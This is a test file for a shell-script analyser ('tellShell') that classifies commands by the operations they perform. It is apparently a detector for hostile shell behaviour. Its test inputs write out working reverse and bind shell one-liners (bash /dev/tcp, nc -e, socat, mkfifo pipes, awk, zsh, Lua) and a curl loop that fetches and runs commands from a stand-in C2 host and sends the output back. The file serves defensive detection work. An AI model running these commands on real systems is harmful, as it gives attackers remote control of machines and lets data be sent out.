import { expect, test } from "vitest";
import { tellShell } from "./read.ts";

test.each([
  [
    "Bash's own sockets",
    "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
    [
      "1:1 attach-shell ⟨203.0.113.5:4444⟩ reverse",
      "1:1 connect ⟨203.0.113.5:4444⟩",
      "1:1 send socket to ⟨203.0.113.5:4444⟩ of ~⟨?⟩ ← output of bash -i",
    ],
  ],
  [
    "inside another shell",
    "bash -c 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'",
    [
      "1:1 evaluate shell ⟨bash -i >& /dev/tcp/203.0.113.5/4444 0>&1⟩",
      "1:10 attach-shell ⟨203.0.113.5:4444⟩ reverse",
      "1:10 connect ⟨203.0.113.5:4444⟩",
      "1:10 send socket to ⟨203.0.113.5:4444⟩ of ~⟨?⟩ ← output of bash -i",
    ],
  ],
  [
    "a descriptor opened by exec",
    "exec 196<>/dev/tcp/203.0.113.5/4444; sh <&196 >&196 2>&196",
    [
      "1:1 connect ⟨203.0.113.5:4444⟩",
      "1:38 attach-shell ⟨203.0.113.5:4444⟩ reverse",
      "1:38 evaluate shell ~⟨?⟩ ← network tcp://203.0.113.5:4444",
      "1:38 send socket to ⟨203.0.113.5:4444⟩ of ~⟨?⟩ ← network tcp://203.0.113.5:4444, output of sh",
    ],
  ],
  [
    "a descriptor opened for the shell",
    "sh -i 5<> /dev/tcp/203.0.113.5/4444 0<&5 1>&5 2>&5",
    [
      "1:1 attach-shell ⟨203.0.113.5:4444⟩ reverse",
      "1:1 connect ⟨203.0.113.5:4444⟩",
      "1:1 evaluate shell ~⟨?⟩ ← network tcp://203.0.113.5:4444",
      "1:1 send socket to ⟨203.0.113.5:4444⟩ of ~⟨?⟩ ← network tcp://203.0.113.5:4444, output of sh -i",
    ],
  ],
  [
    "line by line",
    "exec 5<>/dev/tcp/203.0.113.5/4444; cat <&5 | while read line; do $line 2>&5 >&5; done",
    [
      "1:1 connect ⟨203.0.113.5:4444⟩",
      "1:66 attach-shell ⟨203.0.113.5:4444⟩ reverse",
      "1:66 send socket to ⟨203.0.113.5:4444⟩ of ~⟨?⟩ ← network tcp://203.0.113.5:4444, output of ?",
    ],
  ],
  [
    "an address put together",
    "h=203.0.113.5; p=4444; bash -i >& /dev/tcp/$h/$p 0>&1",
    [
      "1:24 attach-shell ⟨203.0.113.5:4444⟩ reverse",
      "1:24 connect ⟨203.0.113.5:4444⟩",
      "1:24 send socket to ⟨203.0.113.5:4444⟩ of ~⟨?⟩ ← output of bash -i",
    ],
  ],
  ["nc -e", "nc -e /bin/sh 203.0.113.5 4444", ["1:1 attach-shell ⟨203.0.113.5:4444⟩ reverse"]],
  ["nc, its options last", "nc 203.0.113.5 4444 -e /bin/bash", ["1:1 attach-shell ⟨203.0.113.5:4444⟩ reverse"]],
  ["ncat", "ncat --exec /bin/bash c2.example 443 --ssl", ["1:1 attach-shell ⟨c2.example:443⟩ reverse"]],
  [
    "nc and a named pipe",
    "rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.5 4444 >/tmp/f",
    [
      "1:1 delete-file ⟨/tmp/f⟩",
      "1:28 read-file ⟨/tmp/f⟩",
      "1:39 evaluate shell ~⟨?⟩ ← file /tmp/f",
      "1:55 connect ⟨203.0.113.5:4444⟩",
      "1:55 attach-shell ⟨203.0.113.5:4444⟩ reverse",
      "1:55 write-file ⟨/tmp/f⟩ with ~⟨?⟩ ← network tcp://203.0.113.5:4444",
    ],
  ],
  [
    "openssl and a named pipe",
    "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect c2.example:443 > /tmp/s",
    [
      "1:16 read-file ⟨/tmp/s⟩",
      "1:16 evaluate shell ~⟨?⟩ ← file /tmp/s",
      "1:43 connect ⟨c2.example:443⟩",
      "1:43 attach-shell ⟨c2.example:443⟩ reverse",
      "1:43 write-file ⟨/tmp/s⟩ with ~⟨?⟩ ← network tcp://c2.example:443",
    ],
  ],
  [
    "orders from nc",
    "nc 203.0.113.5 4444 | sh",
    [
      "1:1 connect ⟨203.0.113.5:4444⟩",
      "1:23 evaluate shell ~⟨?⟩ ← network tcp://203.0.113.5:4444",
      "1:23 attach-shell ⟨203.0.113.5:4444⟩ reverse",
    ],
  ],
  [
    "telnet twice",
    "telnet 203.0.113.5 4444 | /bin/bash | telnet 203.0.113.5 4445",
    [
      "1:1 connect ⟨203.0.113.5:4444⟩",
      "1:27 evaluate shell ~⟨?⟩ ← network tcp://203.0.113.5:4444",
      "1:27 attach-shell ⟨203.0.113.5:4444⟩ reverse",
      "1:39 connect ⟨203.0.113.5:4445⟩",
      "1:39 attach-shell ⟨203.0.113.5:4445⟩ reverse",
    ],
  ],
  [
    "socat",
    "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:203.0.113.5:4444",
    ["1:1 attach-shell ⟨203.0.113.5:4444⟩ reverse"],
  ],
  [
    "socat that waits",
    "socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/sh",
    ["1:1 listen ⟨0.0.0.0⟩ ⟨4444⟩", "1:1 attach-shell ⟨0.0.0.0:4444⟩ bind"],
  ],
  ["nc that waits", "nc -lvp 4444 -e /bin/sh", ["1:1 listen ⟨0.0.0.0⟩ ⟨4444⟩", "1:1 attach-shell ⟨0.0.0.0:4444⟩ bind"]],
  [
    "nc that waits for orders",
    "nc -l 8080 | bash",
    [
      "1:1 listen ⟨0.0.0.0⟩ ⟨8080⟩",
      "1:14 evaluate shell ~⟨?⟩ ← network listen://0.0.0.0:8080",
      "1:14 attach-shell ⟨0.0.0.0:8080⟩ bind",
    ],
  ],
  [
    "zsh",
    "zsh -c 'zmodload zsh/net/tcp && ztcp 203.0.113.5 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'",
    [
      "1:1 evaluate shell ⟨zmodload zsh/net/tcp && ztcp 203.0.113.5 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY⟩",
      "1:33 connect ⟨203.0.113.5:4444⟩",
      "1:58 attach-shell ⟨203.0.113.5:4444⟩ reverse",
      "1:58 send socket to ⟨203.0.113.5:4444⟩ of ~⟨?⟩ ← output of zsh",
    ],
  ],
  [
    "awk",
    "awk 'BEGIN {s = \"/inet/tcp/0/203.0.113.5/4444\"; while(1) { s |& getline c; while ((c |& getline) > 0) print $0 |& s; close(c); }}'",
    ["1:1 connect ⟨203.0.113.5:4444⟩", "1:1 attach-shell ⟨203.0.113.5:4444⟩ reverse"],
  ],
  [
    "Lua",
    "lua -e \"require('socket');t=socket.tcp();t:connect('203.0.113.5','4444');os.execute('/bin/sh -i <&3 >&3 2>&3');\"",
    [
      "1:1 evaluate unknown ⟨require('socket');t=socket.tcp();t:connect('203.0.113.5','4444');os.execute('/bin/sh -i <&3 >&3 2>&3');⟩",
      "1:1 attach-shell ⟨203.0.113.5:4444⟩ reverse",
    ],
  ],
])("shells for somebody else: %s", (_, script, operations) => {
  expect(tellShell(script).operations).toEqual(operations);
});

test.each([
  [
    "a request over Bash's sockets",
    String.raw`exec 3<>/dev/tcp/203.0.113.5/80; echo -e "GET / HTTP/1.0\n\n" >&3; cat <&3`,
    ["1:1 connect ⟨203.0.113.5:80⟩", "1:34 send socket to ⟨203.0.113.5:80⟩ of ⟨GET / HTTP/1.0\n\n\n⟩"],
  ],
  [
    "a port forwarded back",
    "ssh -fN -o StrictHostKeyChecking=no -R 2222:localhost:22 u@c2.example",
    [
      "1:1 disable-safeguard certificate-pinning",
      "1:1 connect ⟨u@c2.example⟩",
      "1:1 open-tunnel ⟨u@c2.example⟩ ⟨localhost:22⟩",
    ],
  ],
  ["a web server for everybody", "python3 -m http.server 8000 --bind 0.0.0.0", ["1:1 listen ⟨0.0.0.0⟩ ⟨8000⟩"]],
  ["a tunnel", "ngrok http 8080", ["1:1 open-tunnel ⟨ngrok.com⟩ ⟨8080⟩"]],
  ["nc that looks for an open port", "nc -z localhost 5432", []],
  ["a login", "ssh user@host.example", ["1:1 connect ⟨user@host.example⟩"]],
])("connections that are no shell: %s", (_, script, operations) => {
  expect(tellShell(script).operations).toEqual(operations);
});

test.each([
  [
    "every five seconds",
    "while :; do curl -s https://c2.example/cmd | sh | curl -X POST --data-binary @- https://c2.example/out; sleep 5; done",
    [
      "1:13 download ⟨https://c2.example/cmd⟩",
      "1:46 evaluate shell ~⟨?⟩ ← network https://c2.example/cmd",
      "1:51 send http to ⟨https://c2.example/out⟩ of ~⟨?⟩ ← network https://c2.example/cmd, output of sh",
    ],
  ],
])("results of orders go back: %s", (_, script, operations) => {
  expect(tellShell(script).operations).toEqual(operations);
});
